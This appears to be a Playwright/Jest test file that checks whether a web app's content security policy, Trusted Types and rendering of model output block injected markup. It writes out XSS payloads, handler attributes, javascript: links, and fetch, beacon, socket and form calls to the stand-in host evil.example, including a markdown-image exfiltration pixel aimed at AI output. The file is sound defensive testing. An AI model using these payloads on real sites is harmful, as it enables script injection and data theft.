import { describe, expect, it } from '@jest/globals';
import type { Page } from 'playwright-core';
import { applicationUrl, ask, newAccount, newProject } from './support/people';
import { Person, sharedBrowser } from './support/person';

const browser = sharedBrowser();

/** What the page of a test remembers of attacks on it. */
interface Attacked {
  /** Set by whatever ran that should not. */
  ran?: string;
  violations?: string[];
}

/** Notes what the browser refuses by the policy, from before the page's first script. */
async function noteViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const noted: string[] = [];
    (globalThis as Attacked).violations = noted;
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      noted.push(effectiveDirective),
    );
  });
}

const attackedOf = (page: Page) =>
  page.evaluate(() => {
    const { ran, violations = [] } = globalThis as Attacked;
    return { ran, violations: [...new Set(violations)].sort() };
  });

/** Addresses of other hosts that were asked for; none of them is reached. */
async function notePlacesAsked(page: Page): Promise<string[]> {
  const asked: string[] = [];
  const { host } = new URL(applicationUrl);
  await page.route(
    (url) => url.host !== host && url.protocol.startsWith('http'),
    async (route) => {
      asked.push(route.request().url());
      await route.abort();
    },
  );
  return asked;
}

describe('markup that somebody got into the page itself', () => {
  it('should neither run nor load anything, nor lead its forms and addresses elsewhere', async () => {
    const person = await Person.arrive(browser);
    const { page } = person;
    await noteViolations(page);
    const asked = await notePlacesAsked(page);
    await page.route(`${applicationUrl}/sign-in`, async (route) => {
      const response = await route.fetch();
      const injected = `<script>ran = 'inline script'</script>
        <script src="https://evil.example/x.js"></script>
        <img src="x" onerror="ran = 'handler'"><img src="https://evil.example/pixel.png">
        <svg><script>ran = 'script of a drawing'</script></svg>
        <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe><iframe src="https://evil.example/"></iframe>
        <object data="data:text/html,<script>opener.ran=1</script>"></object>
        <link rel="stylesheet" href="https://evil.example/x.css">
        <a id="attack-link" href="javascript:ran = 'link'">x</a>
        <form id="attack-form" action="https://evil.example/take"><input name="password" value="x"></form>`;
      await route.fulfill({
        response,
        body: (await response.text()).replace('</body>', `${injected}</body>`),
      });
    });
    await page.goto(`${applicationUrl}/sign-in`);
    await page.locator('input[type=password]').first().waitFor();
    await page.evaluate(() => {
      document.querySelector<HTMLElement>('#attack-link')?.click();
      document.querySelector<HTMLFormElement>('#attack-form')?.submit();
    });
    await page.waitForFunction(() => (globalThis as Attacked).violations?.includes('form-action'));
    const { ran, violations } = await attackedOf(page);
    expect(ran).toBeUndefined();
    expect(violations).toEqual(
      expect.arrayContaining([
        'form-action',
        'frame-src',
        'img-src',
        'object-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ]),
    );
    expect(asked).toEqual([]);
    await person.leave();
  });
});

describe('a text that reaches what would make a program of it', () => {
  it('should be refused by Trusted Types and by the policy', async () => {
    const person = await Person.arrive(browser);
    const { page } = person;
    await noteViolations(page);
    const asked = await notePlacesAsked(page);
    await page.goto(`${applicationUrl}/sign-in`);
    await page.locator('input[type=password]').waitFor();
    const outcomes = await page.evaluate(async () => {
      const markup = '<img src=x onerror="ran = 1">';
      const element = (name: string) => document.body.appendChild(document.createElement(name));
      const sinks: Readonly<Record<string, () => unknown>> = {
        innerHTML: () => (element('div').innerHTML = markup),
        outerHTML: () => (element('div').outerHTML = markup),
        insertAdjacentHTML: () => element('div').insertAdjacentHTML('beforeend', markup),
        'document.write': () => document.write(markup),
        'range fragment': () => document.createRange().createContextualFragment(markup),
        parseFromString: () => new DOMParser().parseFromString(markup, 'text/html'),
        srcdoc: () => element('iframe').setAttribute('srcdoc', '<script>parent.ran = 1</script>'),
        'text of a script': () => ((element('script') as HTMLScriptElement).text = 'ran = 1'),
        'address of a script': () =>
          ((element('script') as HTMLScriptElement).src = 'https://evil.example/x.js'),
        'data script': () => ((element('script') as HTMLScriptElement).src = 'data:text/javascript,ran=1'),
        eval: () => (0, eval)('ran = 1'),
        Function: () => new Function('ran = 1')() as unknown,
        setTimeout: () => setTimeout('ran = 1' as unknown as () => void),
        'handler attribute': () => element('div').setAttribute('onclick', 'ran = 1'),
        worker: () => new Worker('data:text/javascript,1'),
        'policy of its own': () =>
          (
            globalThis as unknown as {
              trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
            }
          ).trustedTypes.createPolicy('evil', { createHTML: (text: string) => text }),
        fetch: () => fetch('https://evil.example/take'),
        beacon: () =>
          navigator.sendBeacon('https://evil.example/take', 'x') || Promise.reject(new Error('refused')),
        socket: () =>
          new Promise((opened, failed) => {
            const socket = new WebSocket('wss://evil.example/');
            socket.onopen = opened;
            socket.onerror = failed;
          }),
      };
      const passed: string[] = [];
      // What a debugger asks for may call eval until its task ends.
      await new Promise((next) => setTimeout(next));
      for (const [name, attack] of Object.entries(sinks)) {
        try {
          await attack();
          passed.push(name);
        } catch {
          // Refused, as it should be.
        }
      }
      return passed;
    });
    // These throw nothing: the policy stops what comes of them.
    expect(outcomes.filter((name) => !['handler attribute', 'beacon'].includes(name))).toEqual([]);
    const { ran } = await attackedOf(page);
    expect(ran).toBeUndefined();
    expect(asked).toEqual([]);
    await person.leave();
  });
});

/** What a model or a file may say to whoever reads it. */
const hostileText = [
  '<script>ran = "script"</script>',
  '<img src="https://evil.example/pixel.png?tag" onerror="ran = 1">',
  '![secret](https://evil.example/pixel.png?markdown)',
  '[click](javascript:ran=1) and [data](data:text/html,x) and <https://evil.example/auto>',
  '<iframe src="https://evil.example/frame"></iframe><svg onload="ran = 1"></svg>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<video src="https://evil.example/v.mp4" autoplay></video><link rel="prefetch" href="https://evil.example/p">',
  '<div style="background: url(https://evil.example/bg.png)">words</div>',
].join('\n\n');

describe('what models and files say', () => {
  it('should be shown without running anything and without asking anybody for anything', async () => {
    const account = await newAccount();
    await ask('POST', '/user/api-keys/openai', account.token, { key: 'sk-test-0123456789abcdef' });
    const project = await newProject(account, [hostileText]);
    const person = await Person.arrive(browser);
    const { page } = person;
    await noteViolations(page);
    const asked = await notePlacesAsked(page);
    await person.wasHereBefore(account);
    await person.openProject(project.id);
    await person.openText(project.itemIds[0] ?? '');
    await page.locator('pf-prompt-desk .cm-content').click();
    await page.keyboard.press('Control+A');
    await person.untilSent('prompt.edit', () => page.keyboard.insertText(hostileText));
    await person.waitUntilSaved();
    await page.getByTestId('model-picker').click();
    await page.getByTestId('model-search').locator('input').fill('echo');
    await page.locator('[data-model="echo"]').click();
    await page.getByTestId('send').click();
    await page.locator('[data-testid=run][data-status=completed]').waitFor();
    const answer = page.getByTestId('answer');
    await answer.getByText('click').waitFor();
    expect(await answer.locator('script, img, iframe, svg, style, video, link, form').count()).toBe(0);
    const links = await answer
      .locator('a')
      .evaluateAll((all) => all.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]));
    expect(links.length).toBeGreaterThan(0);
    for (const [href, rel] of links) {
      expect(href ?? 'https:').toMatch(/^https:/);
      expect(rel).toBe('noopener noreferrer nofollow');
    }
    // Nothing even had to be refused.
    expect(await attackedOf(page)).toEqual({ ran: undefined, violations: [] });
    expect(asked).toEqual([]);
    expect(person.errors).toEqual([]);
    await person.leave();
  });
});
